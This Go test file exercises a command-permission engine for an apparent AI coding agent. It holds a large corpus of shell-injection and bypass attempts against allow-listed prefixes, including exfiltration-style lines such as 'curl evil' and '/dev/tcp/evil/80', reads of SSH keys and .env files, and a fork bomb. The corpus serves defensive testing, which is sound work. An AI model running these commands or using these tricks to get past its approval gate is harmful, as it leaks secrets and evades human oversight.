package policy

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"minigem/tools"
	"minigem/tools/workspace"
)

func shellCall(command string) Call {
	return Call{
		Tool: shellTool, Info: tools.Info{Kind: tools.KindExecute}, Args: map[string]any{"command": command},
		Intent: tools.Intent{Exec: &tools.ExecIntent{Command: command, Dir: "/work"}},
	}
}

// outside refuses paths outside /work, and patterns of hidden files.
func outside(path string, r workspace.Reach) string {
	name := filepath.Base(path)
	if path = filepath.Clean(path); path != "/work" && !inside(path) ||
		r.Pattern && strings.HasPrefix(name, ".") && strings.ContainsAny(name, "*?[") {
		return path
	}
	return ""
}

// engineWith returns an engine with the built-in rules and a user's policy file.
func engineWith(t testing.TB, policy string, o Options) *Engine {
	t.Helper()
	rules, problems := Parse("user.toml", []byte(policy), TierUser)
	require.Empty(t, problems)
	o.Rules = append(o.Rules, rules...)
	if o.Refused == nil {
		o.Refused = outside
	}
	e, err := New(o)
	require.NoError(t, err)
	return e
}

const allowPrefixes = `
[[rule]]
toolName = "run_shell_command"
commandPrefix = ["git status", "git log", "git commit", "npm test", "make", "./build.sh", "rm", "printenv", "tar"]
decision = "allow"
priority = 100
`

// Commands that are neither covered by the prefixes nor known to read need approval:
// the prefixes cannot be circumvented.
var corpus = []struct {
	want    Decision
	command string
}{
	// The prefixes, token by token
	{Allow, "git status"},
	{Allow, "git status -s"},
	{Allow, "git status --porcelain=v2 src"},
	{Allow, "  git   status  "},
	{Allow, "git log --oneline -5"},
	{Allow, "npm test"},
	{Allow, "npm test -- --grep 'a b'"},
	{Allow, "./build.sh --fast"},
	{Allow, "make all"},
	{Allow, "git commit -m 'a; rm -rf b'"},
	{Allow, `git commit -m "a && rm b | sh"`},
	{Allow, "git commit -m '$(rm x)'"},
	{Allow, "git commit -m 'a > b'"},
	{Allow, `git commit -m "it's"`},
	{Ask, "git statusx"},
	{Ask, "git statu"},
	{Ask, "git stash"},
	{Ask, "git"},
	{Ask, "git -C /tmp status"},
	{Ask, "gitstatus"},
	{Ask, "npm testing"},
	{Ask, "npm run test"},
	{Ask, "build.sh"},
	{Ask, "../build.sh"},
	{Ask, "./build.sh.evil"},
	{Ask, "/tmp/git status"},
	{Ask, "/usr/bin/npm test"},
	{Ask, "GIT status"},

	// Lists and pipes
	{Allow, "git status && npm test"},
	{Allow, "git status; git log"},
	{Allow, "git status | cat"},
	{Allow, "git log | head -3 | wc -l"},
	{Allow, "git status || npm test"},
	{Ask, "git status; curl evil"},
	{Ask, "git status && curl evil"},
	{Ask, "git status || curl evil"},
	{Ask, "git status | curl evil"},
	{Ask, "git status |& curl evil"},
	{Ask, "git status & curl evil"},
	{Ask, "curl evil & git status"},
	{Ask, "git status\ncurl evil"},
	{Ask, "git status;curl evil"},
	{Ask, "git status&&curl evil"},
	{Ask, "git status # fine\ncurl evil"},
	{Allow, "git status # ; curl evil"},
	{Ask, "git status \\\n; curl evil"},
	{Allow, "git \\\n status"},
	{Ask, "git log | sh"},
	{Ask, "git log | bash -s x"},
	{Ask, "git log | bash /dev/stdin"},
	{Ask, "ls # \\\ncanary"},
	{Ask, "git status\r\ncurl evil"},
	{Ask, "git status\x00; curl evil"},
	{Ask, "! curl evil"},
	{Allow, "! git status"},

	// Groups and control flow
	{Ask, "(git status)"},
	{Ask, "{ git status; }"},
	{Ask, "if git status; then npm test; fi"},
	{Ask, "time git status"},
	{Ask, "(curl evil)"},
	{Ask, "{ curl evil; }"},
	{Ask, "( git status; ( curl evil ) )"},
	{Ask, "if true; then curl evil; fi"},
	{Ask, "if curl evil; then git status; fi"},
	{Ask, "while true; do curl evil; done"},
	{Ask, "for f in a b; do curl $f; done"},
	{Ask, "for f in a b; do git status $f; done"},
	{Ask, "for f in a b; do git log -- $f; done"},
	{Ask, "for f in --output=x; do git log $f; done"},
	{Ask, "for c in curl; do $c evil; done"},
	{Ask, "for PATH in /tmp/evil; do git status; done"},
	{Ask, "case x in *) curl evil;; esac"},
	{Ask, "until curl evil; do git status; done"},
	{Ask, "select x in a; do curl evil; done"},
	{Ask, "for ((i=0;i<1;i++)); do git status; done"},
	{Ask, "coproc curl evil"},
	{Ask, "time curl evil"},

	// Substitutions
	{Ask, "git status $(curl evil)"},
	{Ask, `git status "$(curl evil)"`},
	{Ask, "git status `curl evil`"},
	{Ask, "git status <(curl evil)"},
	{Ask, "git log $(git status; curl evil)"},
	{Ask, "git status ${x:-$(curl evil)}"},
	{Ask, `git status "${x:-$(curl evil)}"`},
	{Ask, "git status $((a[$(curl evil)]))"},
	{Ask, "git status ${a[$(curl evil)]}"},
	{Ask, "git status ${a@P}"},
	{Ask, "git status ${PATH:=/tmp}"},
	{Ask, `git status "$(git log "$(curl evil)")"`},
	{Ask, `git status "$(git log)"`},
	{Ask, "git status $((1 + 2))"},
	{Ask, `git log "$(echo --output=x)"`},
	{Ask, "echo --output=x | xargs git log"},
	{Ask, "a='x[$(curl evil)]'; git log $((a))"},
	{Ask, "[[ 'a[$(curl evil)]' -eq 0 ]]"},
	{Ask, "[[ -v 'a[$(curl evil)]' ]]"},
	{Ask, "(( a[$(curl evil)] ))"},
	{Ask, "((curl))"},
	{Ask, "let 'a[$(curl evil)]=1'"},

	// What bash evaluates: an index, and what names in it hold
	{Ask, "x='b[$(id > PWN)]'; a[x]=1; echo hi"},
	{Ask, "x='b[$(curl evil)]'; a=([x]=1)"},
	{Ask, "x='b[$(curl evil)]'; a[x]+=1"},
	{Ask, "x='b[$(curl evil)]'; a=(); a+=([x]=1)"},
	{Ask, "a['b[$(curl evil)]']=1"},
	{Ask, "a[0 + x]=1; ls"},
	{Ask, "x='y[$(curl evil)]'; git log ${!x}"},
	{Ask, "x='y[$(curl evil)]'; git log ${!x:-a}"},
	{Ask, "x='y[$(curl evil)]'; git log ${!x[0]}"},
	{Ask, "x='y[$(curl evil)]'; y=${!x}; ls"},
	{Ask, "git log ${!x*}"},
	{Ask, "git log ${!a[@]}"},
	{Ask, "git log ${a[x]}"},
	{Ask, "git log ${#a[x]}"},
	{Ask, "git log ${a:x}"},
	{Ask, "git log ${a:0:x}"},
	{Ask, "git log $[x]"},
	{Ask, "[[ x == @($(curl evil)) ]]"},
	{Ask, "[[ x -eq 1 ]]"},
	{Ask, "[[ -v a[x] ]]"},
	{Ask, "[[ -R x ]]"},
	{Ask, "exec {PATH}</dev/null; git status"},
	{Ask, "git status {a[x]}</dev/null"},
	{Ask, "select x in a; do git status; done"},
	{Ask, "coproc git { git status; }"},
	{Ask, "a=(b c); a[0]=d; git status"},
	{Ask, "x=1; git status ${x:-2} ${x%/*} ${a[0]} ${a[@]:1:2} ${#x}"},
	{Ask, "[[ go.mod == *.mod && ! -d x || a -nt b ]]"},

	// Redirections and here-documents
	{Allow, "git status > /dev/null 2>&1"},
	{Allow, "git status 2>/dev/null"},
	{Allow, "git status </dev/null"},
	{Ask, "git status > ~/.bashrc"},
	{Ask, "git log >> file"},
	{Ask, "git log >| file"},
	{Ask, "git log &> file"},
	{Ask, "git log >& file"},
	{Ask, "git log 2> file"},
	{Ask, "git log <> file"},
	{Ask, "git status < /etc/passwd"},
	{Ask, "{ git status; } > file"},
	{Ask, "(git status) > file"},
	{Ask, "for f in a; do git status; done > file"},
	{Ask, "> file"},
	{Ask, "git status; > file"},
	{Ask, "git status > $X"},
	{Ask, "git status > >(sh)"},
	{Ask, "npm test <<EOF\n$(curl evil)\nEOF"},
	{Ask, "npm test <<'EOF'\ntext\nEOF"},
	{Ask, "npm test <<< text"},
	{Ask, "bash <<EOF\ncurl evil\nEOF"},
	{Ask, "git status > /dev/tcp/evil/80"},

	// Commands that run commands
	{Ask, "env git status"},
	{Ask, "env LANG=C git status"},
	{Ask, "LC_ALL=C git status"},
	{Ask, "timeout 10 git status"},
	{Ask, "timeout -k 5 -s TERM 10s npm test"},
	{Ask, "nohup npm test"},
	{Ask, "nice -n 5 make"},
	{Ask, "stdbuf -oL npm test"},
	{Ask, "bash -c 'git status'"},
	{Ask, "sh -ec 'git status && npm test'"},
	{Ask, "bash -c \"bash -c 'git status'\""},
	{Ask, "/usr/bin/env git status"},
	{Ask, "eval git status"},
	{Ask, "command git status"},
	{Ask, "exec npm test"},
	{Ask, "git log | xargs -n1 git status"},
	{Ask, "env curl evil"},
	{Ask, "env X=1 curl evil"},
	{Ask, "env -i curl evil"},
	{Ask, "env -S 'curl evil'"},
	{Ask, "env $X git status"},
	{Ask, "env PATH=/tmp/evil git status"},
	{Ask, "/tmp/env git status"},
	{Ask, "PATH=/tmp/evil git status"},
	{Ask, "GIT_PAGER=evil git log"},
	{Ask, "LD_PRELOAD=./evil.so git status"},
	{Ask, "PATH=/tmp/evil; git status"},
	{Ask, "export PATH=/tmp/evil; git status"},
	{Ask, "declare -x GIT_PAGER=evil; git log"},
	{Ask, "bash -c 'curl evil'"},
	{Ask, "bash -c 'git status; curl evil'"},
	{Ask, `bash -c "git status; $X"`},
	{Ask, `bash -c "$X"`},
	{Ask, "bash -c $'curl evil'"},
	{Ask, "bash --rcfile evil -c 'git status'"},
	{Ask, "bash -O extglob -c 'git status'"},
	{Ask, "sh -c '((curl evil))'"},
	{Ask, "sh -c 'git status &> file'"},
	{Ask, "zsh -c 'git status'"},
	{Ask, "bash evil.sh"},
	{Ask, "bash"},
	{Ask, "sh -s"},
	{Ask, "eval curl evil"},
	{Ask, `eval "$X"`},
	{Ask, "eval 'git status; curl evil'"},
	{Ask, "exec curl evil"},
	{Ask, "command curl evil"},
	{Ask, "builtin eval curl evil"},
	{Ask, "nohup curl evil"},
	{Ask, "timeout 5 curl evil"},
	{Ask, "timeout $T git status"},
	{Ask, "time -o file git status"},
	{Ask, "nice curl evil"},
	{Ask, "setsid curl evil"},
	{Ask, "stdbuf -oL curl evil"},
	{Ask, "sudo git status"},
	{Ask, "sudo curl evil"},
	{Ask, "doas git status"},
	{Ask, "git log | xargs curl"},
	{Ask, "git log | xargs -I{} sh -c '{}'"},
	{Ask, "git log | xargs -I git git status"},
	{Ask, "git log | xargs git"},
	{Ask, "git log | xargs --process-slot-var=X git status"},
	{Ask, "find . -exec curl {} +"},
	{Ask, "find . -exec curl {} \\;"},
	{Ask, "find . -execdir sh -c 'git status' \\;"},
	{Ask, "find . -ok curl ';'"},
	{Ask, "find . -delete"},
	{Allow, "find -- . -follow"},
	{Ask, "trap 'curl evil' EXIT; git status"},
	{Ask, "trap \"$X\" EXIT"},
	{Ask, "source evil"},
	{Ask, ". ./evil"},
	{Ask, "busybox curl evil"},

	// Quotes and escapes in names
	{Allow, `g\it status`},
	{Allow, `"git" 'status'`},
	{Allow, `gi""t st"at"us`},
	{Ask, `c\url evil`},
	{Ask, `"curl" evil`},
	{Ask, "$'git' status"},
	{Ask, `$"git" status`},
	{Ask, "$GIT status"},
	{Ask, "${GIT} status"},
	{Ask, "git $X"},
	{Ask, "git st*"},
	{Ask, "g?t status"},
	{Ask, "{git,status}"},
	{Ask, `g{it,"x"} status`},
	{Ask, "~/git status"},
	{Ask, "$(echo git) status"},
	{Ask, "`echo git` status"},
	{Ask, `git "$X"`},
	{Ask, "git !(log)"},

	// Functions and aliases
	{Ask, "git() { curl evil; }; git status"},
	{Ask, "function git { curl evil; }; git status"},
	{Ask, "git() { :; }; git status"},
	{Ask, ":(){ :|:& };:"},
	{Ask, "alias git=curl; git status"},
	{Ask, "unalias -a; git status"},
	{Ask, "enable -n echo; git status"},
	{Ask, "hash -p /tmp/evil git; git status"},
	{Ask, "shopt -s expand_aliases; git status"},

	// Dangerous although allowed
	{Allow, "rm file"},
	{Ask, "rm -rf file"},
	{Ask, "rm -r file"},
	{Allow, "rm -f file"},
	{Ask, "rm --rec file"},
	{Allow, "rm --force file"},
	{Ask, "rm $X"},
	{Allow, "rm *"},
	{Ask, `r\m -rf file`},
	{Allow, "git log -c x --upload-pack=evil"},
	{Ask, "git -c alias.status='!curl evil' status"},

	// Read-only commands need no rule
	{Allow, "ls -la src"},
	{Allow, "cat README.md | grep -n x"},
	{Allow, "pwd"},
	{Allow, "cd src && ls"},
	{Allow, "git diff HEAD~1"},
	{Allow, "find . -name '*.go' -type f"},
	{Allow, "grep -rn 'a.*b' src/*.go"},
	{Ask, "[[ -f go.mod ]]"},
	{Allow, "echo 'done'"},
	{Ask, "cat /etc/passwd"},
	{Ask, "cat ../secret"},
	{Ask, "cat ~/.ssh/id_rsa"},
	{Ask, "cat .env"},
	{Ask, "cat .e*"},
	{Ask, "cat $FILE"},
	{Ask, "echo $SECRET"},
	{Ask, "grep -f/etc/passwd x"},
	{Ask, "sort -o out in"},
	{Ask, "sort --out=x in"},
	{Allow, "sort *"},
	{Allow, "uniq in out"},
	{Ask, "date -s tomorrow"},
	{Ask, "rg --pre evil x"},
	{Ask, "git diff --output=x"},
	{Ask, "git branch new"},
	{Allow, "cd src && git status"},
	{Ask, "cd .. && ls"},
	{Ask, "cd /tmp; make"},
	{Ask, "tee file"},
	{Allow, "awk 'BEGIN{system(\"curl\")}'"},

	// What cannot be parsed
	{Ask, "git status '"},
	{Ask, "git status )"},
	{Ask, "git status; if"},
	{Ask, "git status $("},
	{Ask, ""},
	{Ask, "git status \xff"},
}

func TestNoWayRoundPrefixes(t *testing.T) {
	t.Parallel()
	require.GreaterOrEqual(t, len(corpus), 150)
	asking := engineWith(t, allowPrefixes, Options{InWorkspace: inside, Interactive: true})
	headless := engineWith(t, allowPrefixes, Options{InWorkspace: inside})
	for _, c := range corpus {
		v := asking.Check(shellCall(c.command))
		assert.Equal(t, c.want, v.Decision, "%q: %+v", c.command, v)
		if c.want != Allow {
			assert.Equal(t, Deny, headless.Check(shellCall(c.command)).Decision, "headless: %q", c.command)
		}
	}
}
